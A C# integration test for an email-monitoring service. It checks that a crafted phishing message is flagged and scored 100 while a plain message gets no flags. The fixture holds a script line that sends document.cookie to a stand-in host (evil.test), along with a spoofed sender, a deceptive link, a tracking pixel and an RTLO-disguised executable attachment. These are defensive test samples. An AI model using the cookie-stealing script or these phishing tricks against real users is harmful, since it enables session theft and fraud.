using EmailMonitor.Analysis;
using EmailMonitor.Tests.Analysis;
using EmailMonitor.Tests.Support;
using MimeKit;

namespace EmailMonitor.Tests.Integration;

/// <summary>Verdicts on mail delivered through a real Dovecot, as clients receive them.</summary>
public sealed class AnalysisDeliveryTests
{
    [Fact]
    public async Task A_phishing_email_arrives_with_every_flag_it_earned_and_a_clean_one_with_none()
    {
        await using var dovecot = await DovecotServer.StartAsync();
        await using var service = await ServiceHost.StartAsync(dovecot);
        await using var client = await WsClient.ConnectAsync(service.WebSocketUri);
        await client.LoginAsync(ServiceHost.AdminUsername, service.AdminPassword);
        await Watching.WaitAsync(service);

        await dovecot.AppendAsync(Phishing());
        var phishing = await client.ReceiveAsync("new_email");
        await dovecot.AppendAsync(Emails.Plain("Minutes of Monday's meeting"));
        var clean = await client.ReceiveAsync("new_email");

        var flags = phishing.GetProperty("security_flags").EnumerateArray().Select(f => f.GetString()).ToHashSet();
        Assert.Superset(
            new HashSet<string?>
            {
                SecurityFlags.SenderSpoofing, SecurityFlags.ReplyToMismatch, SecurityFlags.SuspiciousLink, SecurityFlags.ScriptRemoved,
                SecurityFlags.ExternalImages, SecurityFlags.DangerousAttachment, SecurityFlags.RtloFilename, SecurityFlags.DmarcFail,
            },
            flags);
        Assert.Equal(100, phishing.GetProperty("risk_score").GetInt32());
        var attachment = phishing.GetProperty("attachments")[0];
        Assert.Equal("invoicefdp.zip", attachment.GetProperty("filename").GetString());
        Assert.Equal("application/zip", attachment.GetProperty("detected_type").GetString());
        Assert.DoesNotContain("<script", phishing.GetProperty("html_content").GetString(), StringComparison.OrdinalIgnoreCase);

        Assert.Empty(clean.GetProperty("security_flags").EnumerateArray());
        Assert.Equal(0, clean.GetProperty("risk_score").GetInt32());
    }

    private static MimeMessage Phishing()
    {
        var builder = new BodyBuilder
        {
            HtmlBody = """
                <p>Your account is locked. <a href="https://login.evil.test/bank">https://www.bank.example/secure</a></p>
                <script>fetch('https://evil.test/?c=' + document.cookie)</script>
                <img src="https://evil.test/track.gif" width="1" height="1">
                """,
        };
        builder.Attachments.Add("invoice\u202Efdp.zip", SampleFiles.Zip(("invoice.pdf", SampleFiles.WindowsExecutable)), new ContentType("application", "zip"));
        var message = new MimeMessage();
        message.From.Add(new MailboxAddress("security@bank.example", "alerts@evil.test"));
        message.ReplyTo.Add(new MailboxAddress("Support", "help@another.test"));
        message.To.Add(new MailboxAddress("Monitor", "monitor@example.com"));
        message.Subject = "Action required";
        message.Headers.Add(HeaderId.AuthenticationResults, "mx.example.com; spf=pass smtp.mailfrom=evil.test; dkim=none; dmarc=fail header.from=evil.test");
        message.Body = builder.ToMessageBody();
        return message;
    }
}
